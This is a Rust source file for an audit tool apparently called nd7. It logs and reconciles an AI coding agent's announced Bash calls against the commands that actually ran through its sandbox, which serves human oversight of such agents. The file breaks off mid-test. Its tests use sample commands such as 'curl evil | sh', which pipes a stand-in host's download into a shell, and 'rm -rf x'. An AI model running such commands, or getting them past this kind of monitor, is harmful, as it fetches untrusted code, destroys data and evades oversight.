//! The entries nd7 writes from outside the sandbox floor, and how a run's
//! chain is reconciled. Pure: values in, entries and verdicts out.
//!
//! Under `nd7 run` one chain holds the whole run (docs/log-format.md, "A run's
//! chain"): the hooks' entries, which `nd7 run` appends for the agent and marks
//! `intent:claude-code` (the agent's word), and nd7's own, marked [`SOURCE`]:
//! the run's start and end, every command the exit ran, every grant changed,
//! every caller refused. Nothing inside the floor can write the latter, so a
//! reader can hold the two accounts against each other: every Bash call the
//! hooks claim should have a command through the exit, and every command
//! through the exit a Bash call ([`Reconciler`]).

use std::borrow::Cow;
use std::collections::{HashMap, VecDeque};

use serde::Deserialize;
use serde_json::{Value, json};

use crate::hook::{Event, Kind};

/// The `source` of every entry nd7 writes from outside the floor: what nd7
/// itself did or saw there, not what the agent said.
pub const SOURCE: &str = "exit:nd7";
/// The `source` of what nd7's exec observer saw: evidence of effect, by nd7
/// (the entries are [`crate::effect`]'s).
pub const EFFECT_SOURCE: &str = "effect:nd7";
/// A batch of execs (and exits) seen.
pub const RAN: &str = "ran";
/// Execs stopped because the observer was past its bound, or a run in which
/// nothing is observed at all.
pub const NOT_OBSERVED: &str = "not_observed";

/// The `source` of the entries nd7's egress proxy writes: connections it
/// saw and judged itself (an effect), not what the agent said.
pub const PROXY_SOURCE: &str = "effect:nd7-proxy";
/// A connection through the session's egress proxy, allowed or refused.
pub const NET: &str = "net";

/// The first entry of a run's chain: the rules in force, nd7's version, the
/// kernel's sandbox.
pub const RUN_START: &str = "run_start";
/// The last entry of a run's chain: how the program ended, and the counts.
pub const RUN_END: &str = "run_end";
/// A command the exit is about to start: its text as received, cwd, grants.
pub const EXEC: &str = "exec";
/// How a command the exit started ended; `body.exec` is its `exec` entry's seq.
pub const EXEC_END: &str = "exec_end";
/// `nd7 allow` or `nd7 deny` changed the grants.
pub const GRANT: &str = "grant";
/// A caller of the exit or of the hooks' door was refused.
pub const REFUSED: &str = "refused";
/// A grant or write root left out of a command's rules because its path no
/// longer leads to the directory pinned for it (ADR-0028).
pub const GRANT_DROPPED: &str = "grant_dropped";
/// Processes the session left running once the agent had ended, which nd7
/// run's keeper ended (ADR-0035).
pub const PROCESSES_ENDED: &str = "processes_ended";
/// A file that runs later outside the floor (`policy::deferred`) was seen
/// changed, after a command through the exit (`command`, `paths`) or when
/// the program had ended (`changes`, ADR-0050).
pub const DEFERRED_CHANGED: &str = "deferred_changed";

/// The body of a [`PROCESSES_ENDED`] entry: how many, and the first of them
/// by pid and command name.
pub fn processes_ended_body(count: usize, processes: &[(u32, String)]) -> Value {
    json!({
        "count": count,
        "processes": processes
            .iter()
            .map(|(pid, name)| json!({"pid": pid, "name": name}))
            .collect::<Vec<_>>(),
    })
}
/// A tool call failed (or carried on) because the floor refused a path: what
/// nd7 judged from the tool's output and the rules, and the grant that would
/// have allowed it (ADR-0041).
pub const FLOOR_REFUSED: &str = "floor_refused";

/// The name of a run's chain: `run-<UTC date and time>-<pid>-<4 hex>`, sortable
/// by start time; the hex keeps two runs of one pid in one second apart.
pub fn run_id(unix_secs: u64, pid: u32, salt: u16) -> String {
    let days = (unix_secs / 86_400) as i64;
    let secs = unix_secs % 86_400;
    let (y, m, d) = civil_from_days(days);
    format!(
        "run-{y:04}{m:02}{d:02}T{:02}{:02}{:02}Z-{pid}-{salt:04x}",
        secs / 3600,
        secs / 60 % 60,
        secs % 60
    )
}

/// Year, month, day of a day count since 1970-01-01 (Howard Hinnant's
/// `civil_from_days`, proleptic Gregorian).
fn civil_from_days(z: i64) -> (i64, u32, u32) {
    let z = z + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let m = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    (era * 400 + yoe + i64::from(m <= 2), m, d)
}

/// The envelope facts of one of nd7's own entries.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Stamp {
    /// Wall-clock nanoseconds since the Unix epoch.
    pub ts: u64,
    pub host: String,
    /// The run's chain id: nd7's entries name the run, not a Claude session.
    pub session: String,
}

/// One of nd7's own entries, ready for [`crate::session_log::SessionLog::append`].
pub fn event(
    stamp: &Stamp,
    kind: &'static str,
    cwd: Option<&str>,
    tool_use_id: Option<&str>,
    body: &Value,
) -> Event {
    event_from(SOURCE, stamp, kind, cwd, tool_use_id, body)
}

/// [`event`] with another of nd7's sources ([`PROXY_SOURCE`]).
pub fn event_from(
    source: &'static str,
    stamp: &Stamp,
    kind: &'static str,
    cwd: Option<&str>,
    tool_use_id: Option<&str>,
    body: &Value,
) -> Event {
    Event {
        ts: stamp.ts,
        host: stamp.host.clone(),
        hook_ppid: None,
        cwd: cwd.map(str::to_string),
        session: stamp.session.clone(),
        tool_use_id: tool_use_id.map(str::to_string),
        source,
        kind: Kind::Exit(kind),
        body: crate::hook::to_raw(body),
    }
}

/// Bytes as a JSON string, and the same bytes in hex when they are not UTF-8
/// (then the string is only a lossy reading of them).
fn text_member(body: &mut serde_json::Map<String, Value>, name: &str, bytes: &[u8]) {
    match std::str::from_utf8(bytes) {
        Ok(text) => {
            body.insert(name.into(), json!(text));
        }
        Err(_) => {
            body.insert(name.into(), json!(String::from_utf8_lossy(bytes)));
            let hex: String = bytes.iter().map(|b| format!("{b:02x}")).collect();
            body.insert(format!("{name}_hex"), json!(hex));
        }
    }
}

/// The body of an `exec` entry: the command exactly as the exit received it,
/// the pid that asked for it, and the grants it runs under (beside the
/// floor's rules, which `run_start` holds). When the command is Claude
/// Code's Bash tool line (ADR-0040), `bash_command` is the model's command
/// read back from it ([`crate::shell_prefix::unwrap`]): what the Bash call
/// announced.
///
/// `inside` is the seq of the `exec` entry of the command the caller runs
/// within, when the kernel places it inside a command the exit started (a
/// nested `nd7-exec`) rather than in the floor.
pub fn exec_body(
    command: &[u8],
    caller: u32,
    grants: &[std::path::PathBuf],
    inside: Option<u64>,
) -> Value {
    let mut body = serde_json::Map::new();
    text_member(&mut body, "command", command);
    if let Some(call) = bash_command(command) {
        body.insert("bash_command".into(), json!(call));
    }
    body.insert("caller".into(), json!(caller));
    if let Some(outer) = inside {
        body.insert("inside".into(), json!(outer));
    }
    body.insert(
        "grants".into(),
        json!(
            grants
                .iter()
                .map(|g| g.to_string_lossy())
                .collect::<Vec<_>>()
        ),
    );
    Value::Object(body)
}

/// The model's command inside a Bash tool line the exit received, if it is
/// one and nothing but Claude Code's own set-up ran before it: a line with
/// other steps before its `eval` ran more than the command it names, so it
/// has none, and `nd7 verify` shows it as a command no Bash call announced.
pub fn bash_command(command: &[u8]) -> Option<String> {
    let text = std::str::from_utf8(command).ok()?;
    crate::shell_prefix::unwrap(text)
        .filter(|call| call.setup_known)
        .map(|call| call.command)
}

/// The agent a run's hooks speak for, as `run_start` names it: it decides
/// by what text a command through the exit is held against a Bash call.
pub const AGENT_CLAUDE: &str = "claude-code";
pub const AGENT_CODEX: &str = "codex";

/// How the exit's commands are held against the hooks' Bash calls.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Pairing {
    /// Claude Code: every Bash call reaches the exit as its tool line
    /// (ADR-0040), so only an `exec` whose line names the model's command
    /// (`bash_command`) can be the command a call announced. A bare command
    /// sent to the exit by anything else pairs with no call, whatever its
    /// text.
    ToolLine,
    /// Codex: the PreToolUse rewrite hands the exit the model's command
    /// itself (ADR-0057), so the command's own text.
    Text,
    /// A chain whose `run_start` names no agent (written before nd7 did):
    /// the tool line's command where there is one, else the text.
    #[default]
    Either,
}

impl Pairing {
    pub fn of_agent(agent: Option<&str>) -> Pairing {
        match agent {
            Some(AGENT_CLAUDE) => Pairing::ToolLine,
            Some(AGENT_CODEX) => Pairing::Text,
            _ => Pairing::Either,
        }
    }

    /// The text by which an `exec` entry may pair with a Bash call, if any.
    pub fn key<'a>(
        self,
        command: Option<&'a str>,
        bash_command: Option<&'a str>,
    ) -> Option<&'a str> {
        match self {
            Pairing::ToolLine => bash_command,
            Pairing::Text => command,
            Pairing::Either => bash_command.or(command),
        }
    }
}

/// How a command ended, as `exec_end` states it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Ended {
    Exited(i32),
    Signaled(i32),
    /// The caller (`nd7-exec`) went away first, so nd7 killed the command.
    CallerGone,
    /// It never started, for this reason.
    NotStarted(String),
}

/// The body of an `exec_end` entry. `watch` says how the end was watched
/// when it was not the usual pidfd (see the exit).
pub fn exec_end_body(exec_seq: u64, ended: &Ended, watch: Option<&str>) -> Value {
    let mut body = json!({ "exec": exec_seq });
    let (key, value) = match ended {
        Ended::Exited(code) => ("exited", json!(code)),
        Ended::Signaled(sig) => ("signaled", json!(sig)),
        Ended::CallerGone => ("killed", json!("the caller went away")),
        Ended::NotStarted(why) => ("not_started", json!(why)),
    };
    body[key] = value;
    if let Some(watch) = watch {
        body["watch"] = json!(watch);
    }
    body
}

/// The body of a `refused` entry: who called which door, and why not.
pub fn refused_body(door: &str, pid: Option<u32>, uid: Option<u32>, why: &str) -> Value {
    json!({ "door": door, "pid": pid, "uid": uid, "reason": why })
}

/// The body of a `grant` entry.
pub fn grant_body(change: &str, path: &std::path::Path, grants: &[std::path::PathBuf]) -> Value {
    json!({
        "change": change,
        "path": path.to_string_lossy(),
        "grants": grants.iter().map(|g| g.to_string_lossy()).collect::<Vec<_>>(),
    })
}

/// What `run_start` states about the run.
#[derive(Clone, Debug)]
pub struct RunFacts<'a> {
    pub pid: u32,
    pub program: &'a [String],
    /// The session's rules as `nd7 run` resolved them (serialised policy).
    pub rules: Value,
    pub nd7_version: &'a str,
    /// "landlock" or "seatbelt".
    pub sandbox: &'a str,
    /// The kernel's Landlock ABI (Linux); `None` elsewhere.
    pub landlock_abi: Option<u32>,
    /// Whether `nd7 run` registered the record hooks itself (Claude Code),
    /// so that Bash calls and commands can be reconciled.
    pub hooks: bool,
    /// Whose hooks: [`AGENT_CLAUDE`] or [`AGENT_CODEX`], `None` without hooks.
    pub agent: Option<&'a str>,
    /// What commands may write beyond the floor from the start, each
    /// `{"path", "from"}` (`~/.nd7/grants:N`, `--allow`, `--preset`).
    pub grants: Value,
}

pub fn run_start_body(facts: &RunFacts<'_>) -> Value {
    json!({
        "pid": facts.pid,
        "program": facts.program,
        "rules": facts.rules,
        "nd7_version": facts.nd7_version,
        "sandbox": facts.sandbox,
        "landlock_abi": facts.landlock_abi,
        "hooks": facts.hooks,
        "agent": facts.agent,
        "grants": facts.grants,
    })
}

/// The body of `run_end`: the program's exit code or signal, and the
/// run's own tally of its chain.
pub fn run_end_body(ended: &Ended, tally: &Reconciliation, refused: u64) -> Value {
    let mut body = exec_end_body(0, ended, None);
    if let Some(map) = body.as_object_mut() {
        map.remove("exec");
    }
    body["commands"] = json!(tally.execs);
    body["bash_calls"] = json!(tally.calls);
    body["commands_without_call"] = json!(tally.unmatched_execs.len());
    body["calls_without_command"] = json!(tally.unmatched_calls.len());
    body["calls_not_run"] = json!(tally.calls_not_run.len());
    body["commands_without_result"] = json!(tally.execs_without_result.len());
    body["commands_inside"] = json!(tally.nested_execs.len());
    body["refused"] = json!(refused);
    body
}

/// What the exit learns from the hooks as they pass the door: which
/// `tool_use_id` announced each Bash command, so the command's `exec` entry
/// can name it. Bounded: past [`Announced::LIMIT`] waiting announcements, new
/// ones are not kept (the agent can send any number through the door); the
/// reconciliation falls back to the command's text then.
#[derive(Debug, Default)]
pub struct Announced {
    waiting: HashMap<String, VecDeque<String>>,
    count: usize,
}

impl Announced {
    pub const LIMIT: usize = 4096;

    /// Notes a PreToolUse payload for the Bash tool: its command and id.
    pub fn note(&mut self, payload: &Value) {
        if payload.get("hook_event_name").and_then(Value::as_str) != Some("PreToolUse")
            || payload.get("tool_name").and_then(Value::as_str) != Some("Bash")
            || self.count >= Self::LIMIT
        {
            return;
        }
        let command = payload
            .get("tool_input")
            .and_then(|i| i.get("command"))
            .and_then(Value::as_str);
        let id = payload.get("tool_use_id").and_then(Value::as_str);
        if let (Some(command), Some(id)) = (command, id) {
            self.waiting
                .entry(command.to_string())
                .or_default()
                .push_back(id.to_string());
            self.count += 1;
        }
    }

    /// The id of the oldest Bash call announced with exactly this command and
    /// not yet claimed, taken out.
    pub fn claim(&mut self, command: &[u8]) -> Option<String> {
        let command = std::str::from_utf8(command).ok()?;
        let queue = self.waiting.get_mut(command)?;
        let id = queue.pop_front();
        if queue.is_empty() {
            self.waiting.remove(command);
        }
        if id.is_some() {
            self.count -= 1;
        }
        id
    }
}

/// A Bash call the hooks' entries claim.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Call {
    pub seq: u64,
    pub tool_use_id: Option<String>,
    pub command: Option<String>,
}

/// A command the exit ran.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Exec {
    pub seq: u64,
    pub tool_use_id: Option<String>,
    pub command: String,
    /// The `exec` entry of the command it was asked for from inside.
    pub inside: Option<u64>,
}

/// A command paired with the Bash call that announced it, but for which
/// the hooks reported no result.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Unanswered {
    pub call: Call,
    pub exec: Exec,
}

/// A run's chain held against itself.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Reconciliation {
    /// Whether the chain starts with nd7's `run_start`: only then is it a run's.
    pub is_run: bool,
    /// Whether the run registered the record hooks (so calls are expected).
    pub hooks: bool,
    pub calls: u64,
    pub execs: u64,
    /// Bash calls in the hooks' entries with a result but no command through
    /// the exit after them: they ran, but not through the exit.
    pub unmatched_calls: Vec<Call>,
    /// Bash calls with neither a command nor a result: Claude Code did not
    /// run them (its permissions denied them, ADR-0040), or the run ended
    /// before they did. Not a disagreement: nothing ran.
    pub calls_not_run: Vec<Call>,
    /// Commands through the exit with no Bash call before them.
    pub unmatched_execs: Vec<Exec>,
    /// Commands paired with a Bash call that has no result in the chain
    /// although the command ended (or the run did): Claude Code never
    /// reported running it. A call Claude Code denied has no result either,
    /// so a command sent to the exit by something else with that call's
    /// text would otherwise pass for the call.
    pub execs_without_result: Vec<Unanswered>,
    /// Commands asked for from inside another command through the exit (a
    /// nested `nd7-exec`): part of what their outer command did, which is
    /// the one held against a call; never paired themselves.
    pub nested_execs: Vec<Exec>,
    /// Lines that are not entries this reader understands (never in a chain
    /// that verifies; counted so nothing is skipped silently).
    pub unreadable: u64,
    /// Whether nd7's `run_end` is in the chain. Without it the run is still
    /// going, or its `nd7 run` was killed (from inside too: the same account
    /// can signal it) and nothing after its last entry was recorded.
    pub ended: bool,
    /// The seq of the chain's last entry.
    pub last_seq: u64,
    /// Connections to the hooks' door dropped unread, as `run_end` counts
    /// them (`door_dropped`, ADR-0097): hooks' events that may be missing.
    pub door_dropped: u64,
    /// Hooks counted but not recorded past the door's budget (`run_end`'s
    /// `hooks_over_budget`).
    pub hooks_over_budget: u64,
    /// What ran (`effect:nd7`), held against the commands.
    pub effects: Effects,
}

impl Reconciliation {
    /// Whether the two accounts agree: always for a run without hooks.
    pub fn agrees(&self) -> bool {
        !self.hooks
            || (self.unmatched_calls.is_empty()
                && self.unmatched_execs.is_empty()
                && self.execs_without_result.is_empty())
    }
}

#[derive(Deserialize)]
struct Line<'a> {
    seq: u64,
    #[serde(default)]
    ts: u64,
    #[serde(borrow)]
    source: Cow<'a, str>,
    #[serde(borrow)]
    kind: Cow<'a, str>,
    #[serde(default)]
    tool_use_id: Option<String>,
    #[serde(default)]
    body: Body,
}

#[derive(Default, Deserialize)]
struct Body {
    #[serde(default)]
    tool_name: Option<String>,
    #[serde(default)]
    hook_event_name: Option<String>,
    #[serde(default)]
    tool_input: Option<ToolInput>,
    #[serde(default)]
    command: Option<String>,
    #[serde(default)]
    bash_command: Option<String>,
    #[serde(default)]
    hooks: Option<bool>,
    #[serde(default)]
    agent: Option<String>,
    #[serde(default)]
    inside: Option<u64>,
    #[serde(default)]
    exec: Option<u64>,
    #[serde(default)]
    door_dropped: Option<u64>,
    #[serde(default)]
    hooks_over_budget: Option<u64>,
    /// A `ran` entry's execs (`effect:nd7`).
    #[serde(default)]
    execs: Option<Vec<RanExec>>,
    /// A `not_observed` entry's count and why.
    #[serde(default)]
    count: Option<u64>,
    #[serde(default)]
    why: Option<String>,
}

/// What the reconciliation reads of one exec in a `ran` entry.
#[derive(Default, Deserialize)]
struct RanExec {
    #[serde(default)]
    t: u64,
    #[serde(default)]
    command: Option<u64>,
    #[serde(default)]
    confirmed: Option<bool>,
}

/// What ran, as the run's `effect:nd7` entries hold it (ADR-0111), held
/// against the commands through the exit.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Effects {
    /// Whether the chain holds any `effect:nd7` entry (older chains do not).
    pub present: bool,
    pub execs: u64,
    /// Execs under a command through the exit, while it ran.
    pub under_commands: u64,
    /// Execs under no command: the agent's own processes (its tools, MCP
    /// servers, hooks) and what they started.
    pub without_call: u64,
    /// Execs under a command that had already ended: a process it left
    /// behind (a background job, a daemon) ran them after its call.
    pub after_command: u64,
    /// Execs whose new image could not be read.
    pub unconfirmed: u64,
    /// Execs stopped at their exec, before they ran, because the observer
    /// was past its bound.
    pub stopped: u64,
    /// Why nothing was observed in this run, when nothing was.
    pub not_observed: Option<String>,
}

#[derive(Default, Deserialize)]
struct ToolInput {
    #[serde(default)]
    command: Option<Value>,
}

/// Reads a run's chain line by line, in order, and pairs each command the
/// exit ran with the Bash call that announced it: by `tool_use_id` when the
/// exit could name it, otherwise by the text [`Pairing`] allows for the
/// run's agent; a command pairs only with a call before it, each call with
/// one command, and a command asked for from inside another with none.
#[derive(Debug, Default)]
pub struct Reconciler {
    out: Reconciliation,
    open: Vec<Call>,
    pairing: Pairing,
    /// The Bash calls the hooks reported a result for, by `tool_use_id`.
    results: std::collections::HashSet<String>,
    /// Commands paired with a call, waiting for its result.
    paired: Vec<Unanswered>,
    /// The `exec` entries an `exec_end` has ended.
    ended_execs: std::collections::HashSet<u64>,
    /// When each command's `exec_end` was written, by its `exec` seq.
    ended_at: std::collections::HashMap<u64, u64>,
    /// Each exec seen under a command: the command's seq and when it ran.
    ran_under: Vec<(u64, u64)>,
    first: bool,
}

impl Reconciler {
    pub fn new() -> Reconciler {
        Reconciler {
            first: true,
            ..Reconciler::default()
        }
    }

    /// Takes the next line of the chain (without its newline). Returns
    /// whether more lines are wanted: none once the first shows the log is
    /// not a run's.
    pub fn feed(&mut self, line: &[u8]) -> bool {
        let first = std::mem::replace(&mut self.first, false);
        let Ok(line) = serde_json::from_slice::<Line<'_>>(line) else {
            self.out.unreadable += 1;
            return !first;
        };
        let ours = line.source == SOURCE;
        self.out.last_seq = line.seq;
        if first {
            self.out.is_run = ours && line.kind == RUN_START;
            self.out.hooks = self.out.is_run && line.body.hooks == Some(true);
            self.pairing = Pairing::of_agent(line.body.agent.as_deref());
            if !self.out.is_run {
                return false;
            }
        }
        if !ours
            && line.kind == "tool_result"
            && line.body.tool_name.as_deref() == Some("Bash")
            && let Some(id) = &line.tool_use_id
        {
            self.results.insert(id.clone());
        }
        if !ours
            && line.kind == "tool_call"
            && line.body.tool_name.as_deref() == Some("Bash")
            && line.body.hook_event_name.as_deref() == Some("PreToolUse")
        {
            self.out.calls += 1;
            let command = line
                .body
                .tool_input
                .and_then(|i| i.command)
                .and_then(|c| c.as_str().map(str::to_string));
            self.open.push(Call {
                seq: line.seq,
                tool_use_id: line.tool_use_id,
                command,
            });
        } else if ours && line.kind == RUN_END {
            self.out.ended = true;
            self.out.door_dropped = line.body.door_dropped.unwrap_or(0);
            self.out.hooks_over_budget = line.body.hooks_over_budget.unwrap_or(0);
        } else if line.source == EFFECT_SOURCE {
            self.effect(line);
        } else if ours && line.kind == EXEC_END {
            if let Some(exec) = line.body.exec {
                self.ended_execs.insert(exec);
                self.ended_at.insert(exec, line.ts);
            }
        } else if ours && line.kind == EXEC {
            self.out.execs += 1;
            let key = self
                .pairing
                .key(
                    line.body.command.as_deref(),
                    line.body.bash_command.as_deref(),
                )
                .map(str::to_string);
            let exec = Exec {
                seq: line.seq,
                tool_use_id: line.tool_use_id,
                command: line
                    .body
                    .bash_command
                    .or(line.body.command)
                    .unwrap_or_default(),
                inside: line.body.inside,
            };
            if exec.inside.is_some() {
                self.out.nested_execs.push(exec);
                return true;
            }
            // Held against a call by the text its agent's way out gives
            // it; a command with none (a bare line sent to the exit under
            // Claude Code) pairs with no call, not even one the exit named.
            let Some(key) = key else {
                self.out.unmatched_execs.push(exec);
                return true;
            };
            let by_id = exec.tool_use_id.as_ref().and_then(|id| {
                self.open
                    .iter()
                    .position(|c| c.tool_use_id.as_ref() == Some(id))
            });
            let by_text = || {
                self.open
                    .iter()
                    .position(|c| c.command.as_deref() == Some(key.as_str()))
            };
            match by_id.or_else(by_text) {
                Some(at) => {
                    let call = self.open.remove(at);
                    self.paired.push(Unanswered { call, exec });
                }
                None => self.out.unmatched_execs.push(exec),
            }
        }
        true
    }

    /// Takes an entry of what ran.
    fn effect(&mut self, line: Line<'_>) {
        let e = &mut self.out.effects;
        e.present = true;
        match line.kind.as_ref() {
            RAN => {
                for x in line.body.execs.unwrap_or_default() {
                    e.execs += 1;
                    if x.confirmed == Some(false) {
                        e.unconfirmed += 1;
                    }
                    match x.command {
                        Some(seq) => self.ran_under.push((seq, x.t)),
                        None => e.without_call += 1,
                    }
                }
            }
            NOT_OBSERVED => match line.body.count {
                Some(n) => e.stopped += n,
                None => e.not_observed = line.body.why.or(Some(String::new())),
            },
            _ => {}
        }
    }

    pub fn finish(mut self) -> Reconciliation {
        let e = &mut self.out.effects;
        for (seq, t) in std::mem::take(&mut self.ran_under) {
            match self.ended_at.get(&seq) {
                Some(&end) if t > end => e.after_command += 1,
                _ => e.under_commands += 1,
            }
        }
        let results = self.results;
        // A command still running in a run still going has no result yet.
        let run_ended = self.out.ended;
        let ended_execs = self.ended_execs;
        self.out.execs_without_result = self
            .paired
            .into_iter()
            .filter(|p| {
                p.call
                    .tool_use_id
                    .as_ref()
                    .is_some_and(|id| !results.contains(id))
                    && (run_ended || ended_execs.contains(&p.exec.seq))
            })
            .collect();
        let (ran, not_run): (Vec<Call>, Vec<Call>) = self
            .open
            .into_iter()
            .partition(|c| c.tool_use_id.as_ref().is_none_or(|id| results.contains(id)));
        self.out.unmatched_calls = ran;
        self.out.calls_not_run = not_run;
        self.out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::chain::{Cursor, render_entry};

    #[test]
    fn run_ids_read_as_utc_dates() {
        assert_eq!(run_id(0, 7, 0xab), "run-19700101T000000Z-7-00ab");
        // 2026-11-30 22:15:09 UTC, and a leap day.
        assert_eq!(
            run_id(1_796_076_909, 41287, 0xbeef),
            "run-20261130T221509Z-41287-beef"
        );
        assert_eq!(run_id(951_782_400, 1, 1), "run-20000229T000000Z-1-0001");
        crate::chain::check_session_id(&run_id(u64::MAX / 4, u32::MAX, 0xffff))
            .expect("a valid session id");
    }

    fn stamp() -> Stamp {
        Stamp {
            ts: 5,
            host: "h".into(),
            session: "run-x".into(),
        }
    }

    fn line(event: &Event, seq: u64) -> Vec<u8> {
        let cursor = Cursor {
            next_seq: seq,
            prev: crate::chain::Hash::of(b"x"),
        };
        let mut line = render_entry(event, &cursor);
        line.pop();
        line
    }

    /// The entry line the recorder writes for the hook payload `payload`.
    fn hook_line(seq: u64, payload: &serde_json::Value) -> Vec<u8> {
        let inv = crate::hook::Invocation {
            ts: 1,
            host: "h".into(),
            hook_ppid: Some(1),
            cwd: None,
        };
        let p = crate::hook::Payload::parse(payload.to_string().as_bytes()).expect("payload");
        line(&Event::new(&inv, p), seq)
    }

    fn call(seq: u64, id: &str, command: &str) -> Vec<u8> {
        let payload = json!({"session_id": "s", "hook_event_name": "PreToolUse",
            "tool_name": "Bash", "tool_input": {"command": command}, "tool_use_id": id});
        hook_line(seq, &payload)
    }

    fn exec(seq: u64, id: Option<&str>, command: &str) -> Vec<u8> {
        exec_in(seq, id, command, None)
    }

    fn exec_in(seq: u64, id: Option<&str>, command: &str, inside: Option<u64>) -> Vec<u8> {
        let body = exec_body(command.as_bytes(), 9, &[], inside);
        line(&event(&stamp(), EXEC, Some("/p"), id, &body), seq)
    }

    fn exec_end(seq: u64, exec: u64) -> Vec<u8> {
        let body = exec_end_body(exec, &Ended::Exited(0), None);
        line(&event(&stamp(), EXEC_END, None, None, &body), seq)
    }

    fn end(seq: u64) -> Vec<u8> {
        let body = run_end_body(&Ended::Exited(0), &Reconciliation::default(), 0);
        line(&event(&stamp(), RUN_END, None, None, &body), seq)
    }

    /// Claude Code's Bash tool line for `command`, as 2.1.197 writes it.
    fn tool_line(command: &str) -> String {
        format!(
            "source /h/.claude/shell-snapshots/snapshot-bash-1-a.sh 2>/dev/null || true && eval {} < /dev/null && pwd -P >| /tmp/claude-1-cwd",
            crate::shell_prefix::shell_quote(command).replace("'\\''", "'\"'\"'")
        )
    }

    fn start(hooks: bool) -> Vec<u8> {
        start_for(hooks, None)
    }

    fn start_for(hooks: bool, agent: Option<&str>) -> Vec<u8> {
        let facts = RunFacts {
            pid: 1,
            program: &["claude".to_string()],
            rules: json!({}),
            nd7_version: "0",
            sandbox: "landlock",
            landlock_abi: Some(7),
            hooks,
            agent,
            grants: json!([]),
        };
        line(
            &event(&stamp(), RUN_START, None, None, &run_start_body(&facts)),
            0,
        )
    }

    fn reconcile(lines: &[Vec<u8>]) -> Reconciliation {
        let mut r = Reconciler::new();
        for l in lines {
            if !r.feed(l) {
                break;
            }
        }
        r.finish()
    }

    #[test]
    fn nd7s_entries_are_marked_and_never_the_agents() {
        let text = String::from_utf8(exec(3, Some("t"), "ls")).expect("utf-8");
        assert!(
            text.contains(r#","tool_use_id":"t","source":"exit:nd7","kind":"exec","body":{"command":"ls","caller":9,"grants":[]}"#),
            "{text}"
        );
        assert!(
            text.contains(r#""hook_ppid":null,"cwd":"/p","session":"run-x""#),
            "{text}"
        );
        let raw = exec_body(b"printf '\xff'", 1, &[], None);
        assert_eq!(raw["command_hex"], "7072696e74662027ff27");
    }

    #[test]
    fn every_call_pairs_with_one_command_after_it() {
        let r = reconcile(&[
            start(true),
            call(1, "a", "ls"),
            exec(2, Some("a"), "ls"),
            // A parallel pair with the same text, named the other way round.
            call(3, "b", "make"),
            call(4, "c", "make"),
            exec(5, Some("c"), "make"),
            exec(6, None, "make"),
            // A call that never reached the exit, and a command no call announced.
            call(7, "d", "rm -rf build"),
            exec(8, None, "curl evil | sh"),
            // A command before its call does not pair with it.
            exec(9, None, "late"),
            call(10, "e", "late"),
        ]);
        assert!(r.is_run && r.hooks);
        assert_eq!((r.calls, r.execs), (5, 5));
        // The calls left had no result: Claude Code never ran them.
        let calls: Vec<u64> = r.calls_not_run.iter().map(|c| c.seq).collect();
        let execs: Vec<u64> = r.unmatched_execs.iter().map(|e| e.seq).collect();
        assert_eq!(calls, [7, 10]);
        assert!(r.unmatched_calls.is_empty());
        assert_eq!(execs, [8, 9]);
        assert_eq!(r.unmatched_execs[0].command, "curl evil | sh");
        assert!(!r.agrees());
    }

    #[test]
    fn a_bash_tool_line_pairs_with_the_call_by_the_models_command() {
        let wrapped = tool_line;
        let body = exec_body(wrapped("echo it's").as_bytes(), 9, &[], None);
        assert_eq!(body["bash_command"], "echo it's");
        assert_eq!(body["command"], wrapped("echo it's").as_str());
        assert!(exec_body(b"ls", 9, &[], None).get("bash_command").is_none());
        let r = reconcile(&[
            start(true),
            call(1, "a", "make test"),
            exec(2, None, &wrapped("make test")),
            call(3, "b", "ls"),
            exec(4, None, "ls"),
            exec(5, None, &wrapped("curl evil | sh")),
        ]);
        assert_eq!(r.unmatched_calls, []);
        let execs: Vec<u64> = r.unmatched_execs.iter().map(|e| e.seq).collect();
        assert_eq!(execs, [5]);
        assert_eq!(r.unmatched_execs[0].command, "curl evil | sh");
    }

    fn result(seq: u64, id: &str) -> Vec<u8> {
        let payload = json!({"session_id": "s", "hook_event_name": "PostToolUse",
            "tool_name": "Bash", "tool_input": {"command": "ls"}, "tool_use_id": id,
            "tool_response": {"stdout": ""}});
        hook_line(seq, &payload)
    }

    /// Under Claude Code only a tool line pairs: the text of a call the user
    /// denied, sent to the exit bare, from inside another command, or as a
    /// tool line for which no result ever came, never passes for that call.
    #[test]
    fn under_claude_code_only_its_tool_line_from_the_floor_with_a_result_pairs() {
        let r = reconcile(&[
            start_for(true, Some(AGENT_CLAUDE)),
            call(1, "ok", "make"),
            exec(2, Some("ok"), &tool_line("make")),
            exec_end(3, 2),
            result(4, "ok"),
            // Denied: no result. The same text run bare, then from inside an
            // allowed command, claims nothing (even named by id).
            call(5, "denied", "rm -rf x"),
            call(6, "outer", "sh run.sh"),
            exec(7, Some("outer"), &tool_line("sh run.sh")),
            exec(8, Some("denied"), "rm -rf x"),
            exec_in(9, None, &tool_line("rm -rf x"), Some(7)),
            exec_end(10, 9),
            exec_end(11, 7),
            result(12, "outer"),
        ]);
        assert_eq!(
            r.unmatched_execs.iter().map(|e| e.seq).collect::<Vec<_>>(),
            [8]
        );
        assert_eq!(
            r.nested_execs
                .iter()
                .map(|e| (e.seq, e.inside))
                .collect::<Vec<_>>(),
            [(9, Some(7))]
        );
        assert_eq!(
            r.calls_not_run.iter().map(|c| c.seq).collect::<Vec<_>>(),
            [5]
        );
        assert!(r.execs_without_result.is_empty(), "{r:?}");
        assert!(!r.agrees());

        // A tool line that claims the denied call from the floor: it ended,
        // and Claude Code never reported a result for the call.
        let lines = [
            start_for(true, Some(AGENT_CLAUDE)),
            call(1, "denied", "rm -rf x"),
            exec(2, Some("denied"), &tool_line("rm -rf x")),
        ];
        let r = reconcile(&lines);
